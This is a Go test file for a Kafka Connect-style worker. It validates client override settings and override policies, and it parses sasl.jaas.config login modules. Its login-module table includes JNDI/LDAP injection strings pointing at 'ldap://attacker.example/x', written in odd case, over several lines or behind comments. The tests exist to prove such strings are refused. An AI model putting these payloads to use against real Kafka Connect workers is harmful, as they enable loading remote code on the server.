package runtime

import (
	"bufio"
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"millrace/deploy/trial"
	"millrace/schema/config"
	"millrace/schema/config/signin"
)

func TestClientOverrides(t *testing.T) {
	c := WorkerConfig{OverridePolicy: "All", Properties: map[string]string{"consumer.fetch.max.wait.ms": "100", "producer.linger.ms": "5", "consumer.override.x": "1", "consumer.max.poll.records": "7"}}
	got, errs := c.ClientOverrides(Consumer, map[string]string{
		"consumer.override.group.id": "g", "consumer.override.auto.offset.reset": "latest", "consumer.override.client.id": "me",
		"consumer.override.max.poll.records": "10", "consumer.override.bogus": "1", "producer.override.linger.ms": "wrong, but not this client's",
	})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if got.Group != "g" || got.AutoOffsetReset != "latest" || got.ClientID != "me" || len(got.Options) != 1 {
		t.Errorf("%+v", got)
	}
	if len(got.Notices) != 2 || !strings.Contains(got.Notices[0], "2000 records") || !strings.Contains(got.Notices[1], "bogus") {
		t.Errorf("notices %q", got.Notices)
	}
	got, errs = c.ClientOverrides(Consumer, map[string]string{})
	if len(errs) > 0 || len(got.Notices) > 0 {
		t.Errorf("a connector is told what the worker's own settings do: %v %v", got.Notices, errs)
	}
	got, errs = c.ClientOverrides(Producer, map[string]string{"producer.override.transaction.timeout.ms": " 1000 ", "producer.override.acks": "1", "producer.override.linger.ms": "2592000000"})
	if len(errs) > 0 || got.TransactionTimeout != time.Second || len(got.Notices) != 2 || !strings.Contains(strings.Join(got.Notices, ";"), "producer.override.linger.ms=2592000000 is taken for 60000") {
		t.Errorf("%+v %v", got, errs)
	}
}

func TestWrongClientSettingsAreErrorsOnTheirKeys(t *testing.T) {
	c := WorkerConfig{Properties: map[string]string{}}
	for _, row := range []struct {
		kind       ClientKind
		key, value string
		says       string
	}{
		{Producer, "linger.ms", "soon", "Not a number of type LONG"},
		{Producer, "linger.ms", "-1", "at least 0"},
		{Producer, "compression.type", "rar", "String must be one of: none, gzip, snappy, lz4, zstd"},
		{Producer, "compression.gzip.level", "10", "between 1 and 9"},
		{Producer, "acks", "2", "all, -1, 0, 1"},
		{Producer, "batch.size", "many", "Not a number of type INT"},
		{Producer, "bootstrap.servers", "other:9092", "keeps its log itself"},
		{Producer, "sasl.jaas.config", "hunter2", "it is not of the form"},
		{Producer, "transaction.timeout.ms", "99999999999", "Not a number of type INT"},
		{Consumer, "auto.offset.reset", "first", "earliest, latest or none"},
		{Consumer, "auto.offset.reset", "by_duration:P1D", "not supported"},
		{Consumer, "isolation.level", "READ_COMMITTED", "read_committed"},
		{Consumer, "heartbeat.interval.ms", "60000", "more often than session.timeout.ms"},
		{Consumer, "session.timeout.ms", "2000", "more often than session.timeout.ms"},
		{Consumer, "group.id", "", "non-empty"},
		{Consumer, "client.id", strings.Repeat("x", 257), "256 are the most"},
	} {
		key := string(row.kind) + ".override." + row.key
		_, errs := c.ClientOverrides(row.kind, map[string]string{key: row.value})
		if len(errs) != 1 || errs[0].Key != key || !strings.Contains(errs[0].Error(), row.says) || strings.Contains(errs[0].Error(), "hunter2") {
			t.Errorf("%s=%s: %v, want it to say %q", key, row.value, errs, row.says)
		}
		if row.key == "bootstrap.servers" || row.key == "sasl.jaas.config" {
			continue
		}
		if _, errs := ParseWorker(WithDefaults(map[string]string{string(row.kind) + "." + row.key: row.value}, StandaloneDefaults())); len(errs) != 1 || errs[0].Key != string(row.kind)+"."+row.key {
			t.Errorf("the worker's %s.%s=%s: %v", row.kind, row.key, row.value, errs)
		}
	}
}

func TestOverridePolicies(t *testing.T) {
	keys := []string{"linger.ms", "sasl.mechanism", "client.id"}
	for _, row := range []struct {
		policy, allowlist string
		refused           []string
	}{
		{"All", "", nil},
		{"None", "", keys},
		{"Principal", "", []string{"linger.ms", "client.id"}},
		{"Allowlist", "", keys},
		{"Allowlist", "linger.ms, client.id", []string{"sasl.mechanism"}},
		{"none", "", keys},
		{"org.apache.kafka.connect.connector.policy.PrincipalConnectorClientConfigOverridePolicy", "", []string{"linger.ms", "client.id"}},
		{"AllConnectorClientConfigOverridePolicy", "", nil},
		{"org.apache.kafka.connect.connector.policy.AllowlistConnectorClientConfigOverridePolicy", "client.id", []string{"linger.ms", "sasl.mechanism"}},
	} {
		t.Run(row.policy+" "+row.allowlist, func(t *testing.T) {
			c, errs := ParseWorker(WithDefaults(map[string]string{"connector.client.config.override.policy": row.policy, "connector.client.config.override.allowlist": row.allowlist}, StandaloneDefaults()))
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			for _, key := range keys {
				_, errs := c.ClientOverrides(Producer, map[string]string{"producer.override." + key: "5"})
				refused := len(errs) == 1 && strings.Contains(errs[0].Error(), "policy does not allow '"+key+"' to be overridden")
				if refused != slices.Contains(row.refused, key) {
					t.Errorf("%s: refused %v: %v", key, refused, errs)
				}
			}
		})
	}
	if _, errs := ParseWorker(WithDefaults(map[string]string{"connector.client.config.override.policy": "com.example.MyPolicy"}, StandaloneDefaults())); len(errs) != 1 {
		t.Errorf("a policy of one's own: %v", errs)
	}
}

// TestTheTableHasJavasSettings compares with what Kafka 4.4.0's own client classes define: every
// setting is there, with its type.
func TestTheTableHasJavasSettings(t *testing.T) {
	f, err := os.Open("testdata/java-client-settings.tsv")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	compared := 0
	for s := bufio.NewScanner(f); s.Scan(); {
		c := strings.Split(s.Text(), "\t")
		kind, name, typ := ClientKind(c[0]), c[1], c[2]
		if strings.HasPrefix(name, "internal.") {
			continue
		}
		i, ok := ClientSettings(kind).Info(name)
		if !ok {
			t.Errorf("%s has no setting %s", kind, name)
			continue
		}
		if string(i.Type) != typ {
			t.Errorf("%s %s is %s, want %s", kind, name, i.Type, typ)
		}
		compared++
	}
	t.Logf("%d settings compared", compared)
	if compared < 330 {
		t.Errorf("only %d settings compared", compared)
	}
}

// TestEveryClientSettingHasAnEffectOrAReason: nothing is dropped without a word.
func TestEveryClientSettingHasAnEffectOrAReason(t *testing.T) {
	for _, s := range clientSettings {
		if (s.apply == nil) == (s.reason == "") || len(s.kinds) == 0 {
			t.Errorf("%s: %+v", s.name, s)
		}
		for _, k := range s.kinds {
			if i, ok := ClientSettings(k).Info(s.name); !ok || i.Doc == "" {
				t.Errorf("%s %s has no doc", k, s.name)
			}
		}
	}
}

// TestWhatIsTakenMakesAClient: a setting that passed its check never fails the client that is made with it.
func TestWhatIsTakenMakesAClient(t *testing.T) {
	rnd := rand.New(rand.NewPCG(trial.Seed(t), 1))
	texts := []string{"true", "false", "-1", "0", "1", "9", "100", "44999", "2147483647", "9223372036854775807", "all", "gzip", "lz4", "zstd", "snappy", "none", "latest", "read_uncommitted", "x"}
	c := WorkerConfig{Properties: map[string]string{}}
	made := 0
	for range 400 {
		kind := []ClientKind{Producer, Consumer, Admin}[rnd.IntN(3)]
		conf := map[string]string{}
		for _, s := range clientSettings {
			if slices.Contains(s.kinds, kind) && s.apply != nil && rnd.IntN(3) == 0 {
				key, value := string(kind)+".override."+s.name, texts[rnd.IntN(len(texts))]
				if rnd.IntN(2) == 0 {
					value = fmt.Sprint(rnd.Int64N(1 << rnd.IntN(63)))
				}
				if _, errs := c.ClientOverrides(kind, map[string]string{key: value}); len(errs) == 0 {
					conf[key] = value
				}
			}
		}
		got, errs := c.ClientOverrides(kind, conf)
		if len(errs) > 0 {
			continue // settings that do not go together
		}
		cl, err := kgo.NewClient(append([]kgo.Opt{kgo.SeedBrokers("127.0.0.1:1")}, got.Options...)...)
		if err != nil {
			t.Errorf("%v: %v", conf, err)
			continue
		}
		cl.Close()
		made++
	}
	if made < 100 {
		t.Errorf("only %d clients were made", made)
	}
}

// TestLoginModules is what may stand in a sasl.jaas.config, and what a Java worker would have loaded.
func TestLoginModules(t *testing.T) {
	const plain = "org.apache.kafka.common.security.plain.PlainLoginModule"
	for _, row := range []struct {
		name, text string
		module     string // "" where it is refused
		user, pass string
	}{
		{"as everybody writes it", plain + ` required username="alice" password="secret";`, "PlainLoginModule", "alice", "secret"},
		{"over several lines, with spaces", "\n  " + plain + "\n\trequired\n  username = \"alice\"\r\n password='secret' ;\n\n", "PlainLoginModule", "alice", "secret"},
		{"with comments", "/* a */ " + plain + " required // b\n username=alice password=secret;", "PlainLoginModule", "alice", "secret"},
		{"quotes and semicolons inside of a password", plain + ` required username="x\" foo=\"y" password="a;b\\\"c";`, "PlainLoginModule", `x" foo="y`, `a;b\"c`},
		{"scram", `org.apache.kafka.common.security.scram.ScramLoginModule required username="a" password="b";`, "ScramLoginModule", "a", "b"},
		{"oauth", `org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required ;`, "OAuthBearerLoginModule", "", ""},
		{"a naming server", `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example/x" useFirstPass="true";`, "", "", ""},
		{"an LDAP server", `com.sun.security.auth.module.LdapLoginModule REQUIRED userProvider="ldap://attacker.example/x";`, "", "", ""},
		{"in odd case", `COM.SUN.security.auth.module.JNDILoginModule required user.provider.url="ldap://attacker.example/x";`, "", "", ""},
		{"an allowed one in odd case", `org.apache.kafka.common.security.PLAIN.PlainLoginModule required;`, "", "", ""},
		{"over lines and spaces", "\n\n   com.sun.security.auth.module.JndiLoginModule\n   required\n user.provider.url=\"ldap://attacker.example/x\"\n;\n", "", "", ""},
		{"behind an allowed one", plain + ` required username="a"; com.sun.security.auth.module.JndiLoginModule required;`, "", "", ""},
		{"behind a comment", "/* " + plain + " */ com.sun.security.auth.module.JndiLoginModule required;", "", "", ""},
		{"in quotes", `"com.sun.security.auth.module.JndiLoginModule" required;`, "", "", ""},
		{"Kerberos", `com.sun.security.auth.module.Krb5LoginModule required;`, "", "", ""},
		{"nothing", "", "", "", ""},
		{"no semicolon", plain + ` required username="a"`, "", "", ""},
		{"no flag", plain + ` username="a";`, "", "", ""},
		{"an open quote", plain + ` required username="a;`, "", "", ""},
		{"an open comment", plain + ` required /* `, "", "", ""},
		{"a line break in a text", plain + " required username=\"a\nb\";", "", "", ""},
	} {
		t.Run(row.name, func(t *testing.T) {
			login, err := signin.ParseJaas(row.text)
			if (err == nil) != (row.module != "") {
				t.Fatalf("%+v, %v", login, err)
			}
			if login.Module != row.module || login.Options["username"] != row.user || login.Options["password"] != row.pass {
				t.Errorf("%+v", login)
			}
			if err != nil && (strings.Contains(err.Error(), "attacker") || strings.Contains(err.Error(), "secret")) {
				t.Errorf("%v tells of the options", err)
			}
			for _, key := range []string{"producer.override.sasl.jaas.config", "consumer.override.sasl.jaas.config", "admin.override.sasl.jaas.config",
				"database.history.producer.sasl.jaas.config", "schema.history.internal.consumer.SASL.JAAS.Config"} {
				errs := CheckJaas(map[string]string{key: row.text, "other": "x"})
				if (len(errs) == 0) != (row.module != "") {
					t.Errorf("%s: %v", key, errs)
				}
				for _, e := range errs {
					if e.Key != key || e.Value != config.Hidden {
						t.Errorf("%+v", e)
					}
				}
			}
		})
	}
}
